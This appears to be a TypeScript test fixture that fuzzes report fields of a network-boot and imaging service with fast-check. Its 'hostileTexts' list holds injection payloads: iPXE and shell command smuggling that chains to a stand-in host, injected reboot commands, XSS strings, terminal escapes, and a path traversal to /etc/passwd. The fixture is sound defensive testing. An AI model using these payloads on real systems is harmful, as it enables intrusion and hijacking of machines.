import fc from 'fast-check';

/** db1 is in hosts.json; the stranger has a card that nobody listed. */
export const db1 = { host: 'db1', mac: '52:54:00:00:00:01' };
export const stranger = '52:54:00:00:00:66';

const base = (mac: string) => ({ id: `${mac.replaceAll(':', '-')}.20260101T120000`, at: '2026-01-01T12:00:00Z', mac });

/** A good report of each kind, of the machine with this MAC. */
export const reportsOf = (mac: string): Record<string, Record<string, unknown>> => ({
  started: {
    ...base(mac),
    seq: 1,
    kind: 'started',
    host: 'db1',
    ip: '10.0.0.9',
    script: 'web_v1.master',
    firmware: 'uefi',
    version: '6.0.0',
  },
  verb: { ...base(mac), seq: 2, kind: 'verb', verb: 'image', argv: ['web_v1'], phase: 'begin' },
  progress: { ...base(mac), seq: 3, kind: 'progress', verb: 'image', doneBytes: 1, totalBytes: 2, bytesPerSecond: 1 },
  log: { ...base(mac), seq: 4, kind: 'log', lines: ['one'] },
  failed: { ...base(mac), seq: 5, kind: 'failed', verb: 'image', error: 'no route', hint: 'look' },
  finished: { ...base(mac), seq: 6, kind: 'finished', image: 'web_v1', afterwards: 'reboot', seconds: 9 },
});

/** Each field of each kind: `started host`. */
export const fields = Object.entries(reportsOf(stranger)).flatMap(([kind, event]) =>
  Object.keys(event).map((field) => [kind, field] as const),
);

/** Each means something to some language: iPXE, grub, sh, HTML, a terminal, a path. */
export const hostileTexts = [
  'x ; chain http://10.0.0.66/x ;',
  'x && chain http://10.0.0.66/x &&',
  'x || shell',
  '# x',
  '${net0/mac}',
  'x\nchain http://10.0.0.66/x',
  'x\r\nchain http://10.0.0.66/x',
  "'; reboot; '",
  '"; reboot; "',
  '$(reboot)`reboot`',
  'x\\',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '\x1b]0;owned\x07\x1b[2J\x9b31m',
  '\u202egnp.sh',
  '../../etc/passwd',
  '__proto__',
  'constructor',
  '',
  'x'.repeat(5000),
];

/** Those, pieces of them in any order, and anything at all. */
export const hostile = fc.oneof(
  fc.constantFrom(...hostileTexts),
  fc
    .array(
      fc.oneof(fc.constantFrom(...hostileTexts), fc.constantFrom(';', '&&', '||', '#', ' ', '\n', '${', "'", '<')),
      {
        maxLength: 5,
      },
    )
    .map((all) => all.join('')),
  fc.string({ unit: 'binary', maxLength: 40 }),
);
